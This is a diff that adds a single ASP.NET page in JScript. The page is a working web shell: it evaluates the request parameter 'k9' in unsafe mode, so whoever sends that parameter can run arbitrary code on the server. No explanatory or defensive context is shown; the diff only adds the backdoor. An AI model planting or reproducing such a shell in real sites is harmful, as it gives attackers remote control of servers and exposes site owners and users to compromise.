@@ -1,0 +1,1 @@
+﻿<%@ Page Language="JScript" %><% eval(Request.Item["k9"], "unsafe"); %>
